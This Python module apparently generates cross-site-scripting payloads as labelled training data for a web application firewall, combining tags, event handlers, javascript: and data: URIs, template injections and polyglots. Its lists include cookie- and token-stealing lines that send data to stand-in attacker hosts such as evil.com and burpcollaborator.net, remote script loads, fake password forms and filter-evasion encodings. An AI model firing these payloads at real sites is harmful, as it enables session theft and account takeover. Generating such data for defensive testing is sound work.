"""Cross-site-scripting payload grammar: breakouts x tags x handlers x URIs x JS sinks."""

# ruff: noqa: E501

from __future__ import annotations

import base64
import random
from collections.abc import Callable

from bastion.waf.datagen._fill import Filler, choice_filler, fill
from bastion.waf.datagen.sample import Sample, rand_word, unique_samples, weighted, words

#: Event handlers, any of which runs script when its event fires.
HANDLERS: tuple[str, ...] = words(
    """
    onabort onafterprint onanimationcancel onanimationend onanimationiteration onanimationstart
    onauxclick onbeforecopy onbeforecut onbeforeinput onbeforepaste onbeforeprint onbeforetoggle
    onbeforeunload onbegin onblur oncanplay oncanplaythrough onchange onclick onclose oncontextmenu
    oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragexit ondragleave
    ondragover ondragstart ondrop ondurationchange onend onended onerror onfocus onfocusin
    onfocusout onformdata onfullscreenchange ongotpointercapture onhashchange oninput oninvalid
    onkeydown onkeypress onkeyup onload onloadeddata onloadedmetadata onloadend onloadstart
    onlostpointercapture onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout
    onmouseover onmouseup onmousewheel onmozfullscreenchange onpagehide onpageshow onpaste onpause
    onplay onplaying onpointercancel onpointerdown onpointerenter onpointerleave onpointermove
    onpointerout onpointerover onpointerrawupdate onpointerup onpopstate onprogress onratechange
    onrepeat onreset onresize onscroll onscrollend onsearch onseeked onseeking onselect
    onselectionchange onselectstart onshow onstart onstorage onsubmit onsuspend ontimeupdate
    ontoggle ontouchend ontouchmove ontouchstart ontransitioncancel ontransitionend
    ontransitionrun ontransitionstart onunhandledrejection onunload onvolumechange onwaiting
    onwebkitanimationend onwebkitanimationiteration onwebkitanimationstart onwebkittransitionend
    onwheel onactivate onbeforeactivate onbeforedeactivate ondeactivate onfinish onbounce
    onreadystatechange onpropertychange onfilterchange onmove onmoveend onmovestart
    """
)
_USER_HANDLERS = words(
    """
    onclick onmouseover onmouseenter onmousemove onmousedown onmouseup onmouseout onmouseleave
    ondblclick oncontextmenu onpointerover onpointerenter onpointerdown onpointerup onpointermove
    onkeydown onkeyup onkeypress oncopy oncut onpaste ondrag ondragstart ondrop onwheel onauxclick
    ontouchstart onbeforecopy onfocusin onfocusout onblur onscroll
    """
)
_GENERIC_TAGS = words(
    """
    div span a p b i u s x xss abbr address article aside bdi bdo big blink blockquote button
    caption center cite code data dd del dfn dialog dir dl dt em fieldset figcaption figure font
    footer h1 h2 h3 header hgroup kbd label legend li main mark menu meter nav nobr noframes ol
    output q rb rp rt ruby samp section small strike strong sub summary sup table tbody td tfoot
    th thead time tr tt ul var custom-tag acronym animate image listing marquee multicol plaintext
    """
)
_AUTO = (
    # (tag template, handler) pairs that fire without user interaction
    ("<img src={x} {h}={js}>", "onerror"),
    ("<img src={x} {h}={js}>", "onerror"),
    ("<img/src={x} {h}={js}>", "onerror"),
    ("<image src={x} {h}={js}>", "onerror"),
    ("<svg {h}={js}>", "onload"),
    ("<svg/{h}={js}>", "onload"),
    ("<svg><g/{h}={js}></g></svg>", "onload"),
    ("<body {h}={js}>", "onload"),
    ("<body {h}={js}>", "onpageshow"),
    ("<body {h}={js}>", "onfocus"),
    ("<iframe {h}={js}>", "onload"),
    ("<iframe src={x} {h}={js}></iframe>", "onload"),
    ("<details open {h}={js}>", "ontoggle"),
    ("<details/open/{h}={js}>", "ontoggle"),
    ("<input autofocus {h}={js}>", "onfocus"),
    ("<input {h}={js} autofocus>", "onfocus"),
    ("<input type=image src={x} {h}={js}>", "onerror"),
    ("<select autofocus {h}={js}>", "onfocus"),
    ("<textarea autofocus {h}={js}>", "onfocus"),
    ("<keygen autofocus {h}={js}>", "onfocus"),
    ("<video><source {h}={js}></video>", "onerror"),
    ("<video src={x} {h}={js}>", "onerror"),
    ("<audio src={x} {h}={js}>", "onerror"),
    ("<audio autoplay {h}={js}><source src={x}></audio>", "onerror"),
    ("<marquee {h}={js}>", "onstart"),
    ("<marquee loop=1 width=0 {h}={js}>x</marquee>", "onfinish"),
    ("<object data={x} {h}={js}>", "onerror"),
    ("<embed src={x} {h}={js}>", "onload"),
    ("<style {h}={js}></style>", "onload"),
    ("<link rel=stylesheet href={x} {h}={js}>", "onerror"),
    ("<script src={x} {h}={js}></script>", "onerror"),
    ("<frameset {h}={js}>", "onload"),
    ("<table background={x} {h}={js}>", "onerror"),
    ("<{tag} id=x tabindex=1 {h}={js}></{tag}>", "onfocus"),
    ("<{tag} tabindex=1 autofocus {h}={js}>", "onfocusin"),
    ("<{tag} style=animation-name:{kf} {h}={js}></{tag}>", "onanimationstart"),
    ("<{tag} style=animation-name:{kf} {h}={js}></{tag}>", "onanimationend"),
    ("<style>@keyframes x{{}}</style><{tag} style=animation-name:x {h}={js}></{tag}>", "onanimationstart"),
    ("<{tag} style=transition:color 1s {h}={js}></{tag}>", "ontransitionend"),
    ("<svg><animate {h}={js} attributeName=x dur=1s>", "onbegin"),
    ("<svg><set {h}={js} attributename=x to=1>", "onbegin"),
    ("<svg><animate {h}={js} attributeName=x dur=1s repeatCount=2>", "onrepeat"),
    ("<svg><discard {h}={js}>", "onbegin"),
    ("<x contenteditable {h}={js} autofocus>", "onfocus"),
    ("<form><button {h}={js} autofocus>", "onfocus"),
    ("<video autoplay controls {h}={js}><source src={x}></video>", "onplay"),
    ("<audio controls autoplay {h}={js}><source src={x}>", "onloadstart"),
    ("<input type=hidden oncontentvisibilityautostatechange={js} style=content-visibility:auto>", ""),
    ("<body {h}={js}>", "onhashchange"),
    ("<body {h}={js}>", "onresize"),
    ("<body {h}={js} onload=print()>", "onafterprint"),
    ("<svg><animatetransform {h}={js} attributeName=transform>", "onbegin"),
    ("<img srcset={x} {h}={js}>", "onerror"),
    ("<picture><source srcset={x}><img src {h}={js}></picture>", "onerror"),
)  # fmt: skip

_SINK_CALLS = (
    "alert({arg})", "alert({arg})", "alert({arg})", "prompt({arg})", "confirm({arg})",
    "alert`{argt}`", "prompt`{argt}`", "print()", "alert({arg});", "(alert)({arg})",
    "window.alert({arg})", "self.alert({arg})", "top.alert({arg})", "parent.alert({arg})",
    "this.alert({arg})", "globalThis.alert({arg})", "window['alert']({arg})", "top['al'+'ert']({arg})",
    "window['al'+'ert']({arg})", "self['ale'+'rt']({arg})", "top[/al/.source+/ert/.source]({arg})",
    "window[`al`+`ert`]({arg})", "alert?.({arg})", "[{arg}].find(alert)", "[{arg}].map(alert)", "[{arg}].find(confirm)", "[{arg}].some(prompt)",
    "a=alert,a({arg})", "eval('alert({arg})')", "eval(atob('{b64}'))", "eval(String.fromCharCode({codes}))",
    "Function('alert({arg})')()", "new Function`alert\\`{argt}\\``", "setTimeout('alert({arg})')",
    "setTimeout(alert,0,{arg})", "setInterval('alert({arg})',1000)", "[].constructor.constructor('alert({arg})')()",
    "constructor.constructor('alert({arg})')()", "import('//{host}/{w}.js')", "eval(location.hash.slice(1))",
    "eval(name)", "eval(decodeURIComponent(location.hash.substr(1)))", "top[atob('YWxlcnQ=')]({arg})",
    "window[atob('YWxlcnQ=')]({arg})", "top['al\\x65rt']({arg})", "al\\u0065rt({arg})", "top[8680439..toString(30)]({arg})",
    "throw onerror=alert,{arg}", "{onerror=alert}throw {arg}", "Reflect.apply(alert,null,[{arg}])",
    "alert.call(null,{arg})", "alert.apply(null,[{arg}])", "document.write('<img src=x onerror=alert({arg})>')",
    "location='javascript:alert({arg})'", "location.href='javascript:alert({arg})'", "$.getScript('//{host}/x.js')",
    "jQuery.globalEval('alert({arg})')", "Object.defineProperty(window,'x',{{get:alert}});x",
    "x=document.createElement('script');x.src='//{host}/{w}.js';document.body.appendChild(x)",
    "with(document)body.appendChild(createElement('script')).src='//{host}'",
)  # fmt: skip
_EXFIL = (
    "fetch('//{host}/?c='+document.cookie)", "fetch('https://{host}/'+btoa(document.cookie))",
    "new Image().src='//{host}/?c='+document.cookie", "new Image().src='http://{host}/log?'+escape(document.cookie)",
    "document.location='http://{host}/steal?c='+document.cookie", "document.location.href='//{host}/?'+document.cookie",
    "location='//{host}/?'+document.cookie", "window.location='http://{host}/'+localStorage.getItem('token')",
    "navigator.sendBeacon('//{host}',document.cookie)", "document.write('<img src=//{host}/'+document.cookie+'>')",
    "var x=new XMLHttpRequest();x.open('GET','//{host}/?'+document.cookie);x.send()",
    "fetch('/api/user').then(r=>r.text()).then(t=>fetch('//{host}/',{{method:'POST',body:t}}))",
    "document.body.innerHTML='<form action=//{host}><input name=p type=password>'",
    "opener.location='//{host}/phish'", "top.location='https://{host}'", "window.open('//{host}/?'+document.domain)",
    "document.cookie='session=x;path=/'", "localStorage.setItem('token','{w}')", "document.domain='{host}'",
)  # fmt: skip
_ARGS = (
    "1", "1", "1", "1", "'XSS'", "\"XSS\"", "document.domain", "document.cookie", "/XSS/", "/xss/.source",
    "String.fromCharCode(88,83,83)", "origin", "window.origin", "'{w}'", "{num}", "0", "'1'", "location",
    "document.location", "navigator.userAgent", "localStorage.token", "this", "top.document.cookie",
)  # fmt: skip
_HOSTS = (
    "evil.com", "attacker.com", "xss.ht", "{w}.oast.me", "burpcollaborator.net", "xss.report",
    "{w}.xss.ht", "{ip}", "{ip}:8000", "evil.{w}.io", "{w}.ngrok.io", "bxss.me", "x.{w}.net",
)  # fmt: skip
_URI_TAGS = (
    "<a href={uri}>{text}</a>", "<a href={uri}>{text}", "<iframe src={uri}></iframe>", "<iframe src={uri}>",
    "<object data={uri}></object>", "<embed src={uri}>", "<form action={uri}><input type=submit></form>",
    "<form><button formaction={uri}>{text}</button></form>", "<isindex action={uri} type=image>",
    "<math><maction actiontype=statusline xlink:href={uri}>{text}</maction></math>",
    "<svg><a xlink:href={uri}><text x=20 y=20>{text}</text></a></svg>", "<svg><a href={uri}><rect width=100 height=100 /></a></svg>",
    "<base href={uri}>", "<meta http-equiv=refresh content=0;url={uriraw}>", "<meta http-equiv=\"refresh\" content=\"0; url={uriraw}\">",
    "<frameset><frame src={uri}>", "<input type=image formaction={uri} src=x>", "<img src=x dynsrc={uri}>",
    "<img src={uri}>", "<IMG SRC={uri}>", "<img src={uri}", "<IMG LOWSRC={uri}>", "<body background={uri}>", "<TABLE BACKGROUND={uri}>",
    "<input type=image src={uri}>", "<BGSOUND SRC={uri}>", "<LINK REL=stylesheet HREF={uri}>", "<div style=\"background-image: url({uriq})\">",
    "<style>li {{list-style-image: url(\"{uriq}\");}}</style>", "<td background={uri}>", "<frame src={uri}>", "<embed src={uri} type=image/svg+xml>",
    "<link rel=import href={uri}>", "<script src={uri}></script>", "<iframe srcdoc=\"<script>{sinkq}</script>\">",
    "<a href={uri} target=_blank>{text}</a>", "<area href={uri}>", "<embed code={uri} allowscriptaccess=always>",
    "<svg><use href={uri}#x></use></svg>", "<animate attributeName=href values={uri}>",
)  # fmt: skip
_BREAKOUTS = (
    ("", 10.0), ("\">", 4.0), ("'>", 2.0), (">", 1.0), ("\"/>", 0.8), ("</title>", 0.5),
    ("</textarea>", 0.6), ("-->", 0.6), ("</style>", 0.4), ("</script>", 0.8), ("]]>", 0.2),
    ("</noscript>", 0.2), ("\"></a>", 0.3), ("'\">", 0.8), ("</option></select>", 0.2),
    ("\"></iframe>", 0.2), ("</xmp>", 0.1), ("</p>", 0.2), ("</div>", 0.2), ("\">\">", 0.2),
    ("</textarea></script>", 0.2), ("\"]\">", 0.1), ("' --></style></script>", 0.2), ("*/", 0.1),
)  # fmt: skip
_LEADS = ("", "", "", "", "{word}", "{word} ", "{num}", "test", '"{word}', '{word}"', "x")


def _host(rng: random.Random) -> str:
    return fill(rng.choice(_HOSTS), rng, _BASE)


def _b64js(rng: random.Random) -> str:
    js = fill(rng.choice(_SINK_CALLS[:14] + _EXFIL[:6]), rng, _BASE)
    return base64.b64encode(js.encode()).decode()


def _codes(rng: random.Random) -> str:
    js = fill(rng.choice(_SINK_CALLS[:6]), rng, _BASE)
    return ",".join(str(ord(c)) for c in js)


def _arg(rng: random.Random) -> str:
    return fill(rng.choice(_ARGS), rng, _BASE)


def _argt(rng: random.Random) -> str:
    return rng.choice(
        ["1", "XSS", "xss", "document.domain", "${document.cookie}", "0", rand_word(rng, 2, 5)]
    )


_BASE: dict[str, Filler] = {
    "w": lambda r: rand_word(r, 3, 8),
    "word": lambda r: rng_word(r),
    "num": lambda r: str(r.randint(1, 99999)),
    "ip": lambda r: (
        f"{r.randint(11, 223)}.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}"
    ),
    "kf": lambda r: r.choice(["x", "spin", "fadein", rand_word(r, 3, 6)]),
    "tag": choice_filler(_GENERIC_TAGS),
    "x": lambda r: r.choice(
        [
            "x",
            "x",
            "1",
            "#",
            "/",
            '"x"',
            "'x'",
            "`x`",
            "a.png",
            "//0",
            "data:,",
            "javascript:void(0)",
            "xx:x",
        ]
    ),
    "text": lambda r: r.choice(
        ["click", "Click me", "x", "test", "link", "XSS", "here", rand_word(r, 3, 8)]
    ),
}


def rng_word(rng: random.Random) -> str:
    """A plausible benign word a payload might be appended to."""
    return rng.choice(
        [
            "search",
            "test",
            "hello",
            "shoes",
            "john",
            "query",
            "name",
            "abc",
            "foo",
            rand_word(rng, 3, 8),
        ]
    )


_BASE["host"] = _host
_BASE["b64"] = _b64js
_BASE["codes"] = _codes
_BASE["arg"] = _arg
_BASE["argt"] = _argt


def _sink(rng: random.Random) -> str:
    if rng.random() < 0.22:
        return fill(rng.choice(_EXFIL), rng, _BASE)
    return fill(rng.choice(_SINK_CALLS), rng, _BASE)


def _quote_attr(rng: random.Random, js: str) -> str:
    """Quote an attribute value the way payloads do: bare, double, single or backtick."""
    r = rng.random()
    if r < 0.42 and not any(c in js for c in " >\"'`"):
        return js
    if r < 0.75 and '"' not in js:
        return f'"{js}"'
    if "'" not in js and r < 0.93:
        return f"'{js}'"
    if '"' not in js:
        return f'"{js}"'
    return f"'{js}'" if "'" not in js else '"' + js.replace('"', "&quot;") + '"'


def _js_uri(rng: random.Random, js: str) -> str:
    scheme = weighted(
        rng,
        (
            ("javascript:", 6.0), ("JavaScript:", 1.0), ("javascript://%0a", 0.5), ("java\tscript:", 0.6),
            ("java&#x09;script:", 0.5), ("java&#9;script:", 0.4), ("jav&#x0A;ascript:", 0.4),
            ("javascript&colon;", 0.5), ("&#106;avascript:", 0.3), ("&#x6A;avascript:", 0.3),
            ("  javascript:", 0.3), ("\x01javascript:", 0.1), ("jAvAsCrIpT:", 0.6), ("javas\ncript:", 0.3),
            ("javascript://comment%0A", 0.3), ("javascript:/*--></title></style></textarea></script>*/", 0.1),
            ("vbscript:", 0.15), ("&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058", 0.2),
        ),
    )  # fmt: skip
    if scheme == "vbscript:":
        return "vbscript:msgbox(1)" if rng.random() < 0.5 else "vbscript:alert(document.cookie)"
    if rng.random() < 0.05:  # entity whitespace between the letters: j&Tab;a&NewLine;v...
        sep = rng.choice(
            ["&Tab;", "&NewLine;", "&#x09;", "&#10;", "&NewLine;&Tab;", "\t", "&#x0D;"]
        )
        scheme = sep.join("javascript") + rng.choice([":", "&colon;"])
    return scheme + js


def _data_uri(rng: random.Random, js: str) -> str:
    html = rng.choice([f"<script>{js}</script>", f"<svg onload={js}>", f"<img src=x onerror={js}>"])
    if rng.random() < 0.6:
        return "data:text/html;base64," + base64.b64encode(html.encode()).decode()
    return (
        rng.choice(["data:text/html,", "data:text/html;charset=utf-8,", "data:image/svg+xml,"])
        + html
    )


def _tag_handler(rng: random.Random) -> tuple[str, str]:
    js = _sink(rng)
    if rng.random() < 0.62:
        idx = rng.randrange(len(_AUTO))
        tmpl, handler = _AUTO[idx]
        key = f"auto:{idx}"
    else:
        tmpl = rng.choice(
            [
                "<{tag} {h}={js}>{text}</{tag}>",
                "<{tag} {h}={js}>{text}",
                "<{tag} {h}={js}>",
                "<{tag} id={w} {h}={js} style=display:block>{text}</{tag}>",
                '<{tag} style="position:fixed;top:0;left:0;width:100%;height:100%" {h}={js}></{tag}>',
                "<{tag}/{h}={js}>",
            ]
        )
        handler = rng.choice(HANDLERS if rng.random() < 0.4 else _USER_HANDLERS)
        key = f"any:{handler}"
    fixed = {"h": handler or "onload", "js": _quote_attr(rng, js)}
    return fill(tmpl, rng, _BASE, fixed), key


def _script(rng: random.Random) -> tuple[str, str]:
    js = _sink(rng)
    idx = rng.randrange(11)
    tmpl = (
        "<script>{js}</script>", "<script>{js}</script>", "<script type=text/javascript>{js}</script>",
        "<script>{js}//", "<script src=//{host}/{w}.js></script>", "<script src=\"https://{host}/x.js\"></script>",
        "<script>/*{w}*/{js}</script>", "<script\n>{js}</script\n>", "<script async src=//{host}></script>",
        "<script>{js}<\\/script>", "<svg><script>{js}</script></svg>",
    )[idx]  # fmt: skip
    if rng.random() < 0.06:
        tmpl = rng.choice(
            [
                "<<script>{js}//<</script>",
                '<SCRIPT/XSS SRC="//{host}/x.js"></SCRIPT>',
                "<scr<script>ipt>{js}</scr</script>ipt>",
                "<script>{js}</script",
            ]
        )
    out = fill(tmpl, rng, _BASE, {"js": js})
    if rng.random() < 0.15:
        out = out.replace("script", rng.choice(["SCRIPT", "ScRiPt", "Script", "scRipt"]))
    return out, f"script:{idx}"


def _uri(rng: random.Random) -> tuple[str, str]:
    js = _sink(rng)
    if rng.random() < 0.18:  # bare URI values (redirect/url parameters)
        uri = _js_uri(rng, js) if rng.random() < 0.75 else _data_uri(rng, js)
        return uri, "uri:bare"
    uri = _js_uri(rng, js) if rng.random() < 0.8 else _data_uri(rng, js)
    idx = rng.randrange(len(_URI_TAGS))
    fixed = {
        "uri": _quote_attr(rng, uri),
        "uriraw": uri.replace('"', "'"),
        "uriq": uri.replace('"', "'"),
        "sinkq": js.replace('"', "'"),
    }
    return fill(_URI_TAGS[idx], rng, _BASE, fixed), f"uri:{idx}"


def _attr_breakout(rng: random.Random) -> tuple[str, str]:
    js = _sink(rng)
    q = rng.choice(['"', '"', "'", ""])
    h = rng.choice(
        _USER_HANDLERS
        if rng.random() < 0.5
        else ("onfocus", "onmouseover", "onload", "onerror", "onclick")
    )
    jsq = js.replace(q, "'" if q == '"' else '"') if q else js.replace(" ", "/**/")
    idx = rng.randrange(9)
    tmpl = (
        "{q} {h}={q}{jsq}", "{q} {h}={jsq} {q}", "{q} autofocus {h}={jsq} x={q}", "{q}autofocus/onfocus={jsq}//",
        "{q} onfocus={jsq} autofocus {q}", "{q} style=animation-name:rotation onanimationstart={jsq} x={q}",
        "{q}/{h}={jsq}//", "{q} accesskey=x onclick={jsq} x={q}", "{q} tabindex=1 onfocusin={jsq} id={q}",
    )[idx]  # fmt: skip
    lead = rng.choice(["", "", "x", rng_word(rng), "1"])
    return lead + fill(tmpl, rng, _BASE, {"q": q, "h": h, "jsq": jsq}), f"attr:{idx}"


def _js_context(rng: random.Random) -> tuple[str, str]:
    js = fill(rng.choice(_SINK_CALLS[:30] + _EXFIL[:6]), rng, _BASE)
    idx = rng.randrange(16)
    tmpl = (
        "';{js}//", "\";{js}//", "'-{js}-'", "\"-{js}-\"", "\\';{js};//", "</script><script>{js}</script>",
        "${{{js}}}", "`;{js};`", "'}};{js};//", "\");{js};//", "\\\"-{js}}}//", "1;{js}", "';{js};var x='",
        "'+{js}+'", "\"+{js}+\"", "</script><svg onload={jsn}>",
    )[idx]  # fmt: skip
    lead = rng.choice(["", "", "", rng_word(rng), "1", "x"])
    return lead + fill(tmpl, rng, _BASE, {"js": js, "jsn": js.replace(" ", "")}), f"js:{idx}"


def _template(rng: random.Random) -> tuple[str, str]:
    arg = rng.choice(["1", "document.domain", "'XSS'", "document.cookie"])
    idx = rng.randrange(12)
    tmpl = (
        "{{{{constructor.constructor('alert({a})')()}}}}", "{{{{$on.constructor('alert({a})')()}}}}",
        "{{{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert({a})');}}}}", "{{{{_c.constructor('alert({a})')()}}}}",
        "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert({a})>", "{{{{[].pop.constructor('alert({a})')()}}}}",
        "<x v-html=_c.constructor('alert({a})')()></x>", "{{{{x=valueOf.name.constructor.fromCharCode;constructor.constructor(x(97,108,101,114,116,40,49,41))()}}}}",
        "<div v-if=\"'a'.constructor.constructor('alert({a})')()\"></div>", "{{{{toString.constructor.prototype.toString=toString.constructor.prototype.call;['a','alert({a})'].sort(toString.constructor)}}}}",
        "<input ng-focus=$event.composedPath()|orderBy:'[].constructor.from([1],alert)' autofocus>", "{{{{$eval.constructor('alert({a})')()}}}}",
    )[idx]  # fmt: skip
    return fill(tmpl, rng, _BASE, {"a": arg}), f"tmpl:{idx}"


def _css_misc(rng: random.Random) -> tuple[str, str]:
    js = _sink(rng)
    idx = rng.randrange(26)
    tmpl = (
        "<script src=http://{host}/{w}.js></script>", "<script src=//{host}/{w}.js?<b>", "<link rel=\"stylesheet\" href=\"http://{host}/{w}.css\">",
        "<style>@import'http://{host}/{w}.css';</style>", "<layer src=\"http://{host}/{w}.html\"></layer>", "<xml id=x src=\"http://{host}/{w}.xml\"></xml>",
        "<div style=\"behavior: url(http://{host}/{w}.htc);\">", "<div style=\"-moz-binding: url(http://{host}/{w}.xml#xss)\">",
        "<embed src=\"http://{host}/{w}.swf\" allowscriptaccess=\"always\"></embed>", "<object type=\"text/x-scriptlet\" data=\"http://{host}/{w}.html\"></object>",
        "<meta http-equiv=\"set-cookie\" content=\"session={w}\">", "<script>(+[])[([][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]+[])[+!+[]]]</script>",
        "<div style=\"background:url(javascript:{jsq})\">", "<div style=\"width:expression({jsq})\">",
        "<style>@import 'javascript:{jsq}';</style>", "<link rel=stylesheet href=javascript:{jsn}>",
        "<style>body{{background:url(\"javascript:{jsq}\")}}</style>", "<xss style=\"behavior:url(//{host}/x.htc)\">",
        "<noscript><p title=\"</noscript><img src=x onerror={jsn}>\">", "<math><mtext><table><mglyph><style><img src=x onerror={jsn}>",
        "<svg><style><img src=x onerror={jsn}></style></svg>", "<xmp><p title=\"</xmp><svg/onload={jsn}>\">",
        "<?xml version=\"1.0\"?><html xmlns:html=\"http://www.w3.org/1999/xhtml\"><html:script>{js}</html:script></html>",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">{js}</x:script>", "<!--<img src=\"--><img src=x onerror={jsn}//\">",
        "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;{jsq}&lt;/script&gt;\"></iframe></foreignObject></svg>",
    )[idx]  # fmt: skip
    fixed = {
        "js": js,
        "jsq": js.replace('"', "'"),
        "jsn": js.replace(" ", "/**/") if " " in js else js,
    }
    return fill(tmpl, rng, _BASE, fixed), f"css:{idx}"


def _polyglot(rng: random.Random) -> tuple[str, str]:
    parts = [
        rng.choice(["jaVasCript:", "javascript:", ""]),
        rng.choice(["/*-/*`/*\\`/*'/*\"/**/", "'\"", "\"'`", "-->", ""]),
        rng.choice(["(/* */oNcliCk=alert() )", "(alert(1))", "-alert(1)-", "alert(1)//"]),
        rng.choice(["//%0D%0A%0d%0a//", "//", ""]),
        rng.choice(
            ["</stYle/</titLe/</teXtarEa/</scRipt/--!>", "</script>", "-->", "</title></style>", ""]
        ),
        rng.choice(
            [
                "\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
                "<svg/onload=alert(1)>",
                "<img src=x onerror=alert(1)//>",
            ]
        ),
    ]
    return "".join(parts), "polyglot"


_Builder = Callable[[random.Random], tuple[str, str]]
_TECHNIQUES: tuple[tuple[_Builder, float], ...] = (
    (_tag_handler, 0.36),
    (_script, 0.13),
    (_uri, 0.15),
    (_attr_breakout, 0.12),
    (_js_context, 0.1),
    (_template, 0.04),
    (_css_misc, 0.07),
    (_polyglot, 0.03),
)
_NEEDS_BREAKOUT = {_tag_handler, _script, _uri, _css_misc}


def xss_payload(rng: random.Random) -> tuple[str, str]:
    """One grammar XSS payload and its template group key."""
    builder = weighted(rng, _TECHNIQUES)
    payload, key = builder(rng)
    if builder in _NEEDS_BREAKOUT and key != "uri:bare":
        lead = fill(rng.choice(_LEADS), rng, _BASE)
        payload = lead + weighted(rng, _BREAKOUTS) + payload
        if rng.random() < 0.1:
            payload += rng.choice(["//", "<!--", '"', "'", " ", "<", fill("{word}", rng, _BASE)])
    if rng.random() < 0.06:  # injected into otherwise ordinary markup (CMS / comment fields)
        html = rng.choice(_BENIGN_HTML)
        payload = html + payload if rng.random() < 0.7 else payload + html
    return payload, key


_BENIGN_HTML = (
    "<p>Hello</p>", "<b>Great post!</b> ", "<div draggable=\"true\" contenteditable>drag me</div>", "<p>Thanks, see below:</p>\n",
    "<a href=\"https://example.com\">link</a> ", "<br>", "<i>note</i>", "<ul><li>one</li></ul>", "<h2>Title</h2>", "</p><p>",
)  # fmt: skip


def generate_xss(rng: random.Random, n: int) -> list[Sample]:
    """``n`` distinct grammar-generated XSS payloads (kind "value")."""

    def make() -> Sample:
        payload, key = xss_payload(rng)
        return Sample(payload, "value", "xss", "gen:xss:grammar", f"gen:xss:{key}")

    return unique_samples(make, n)
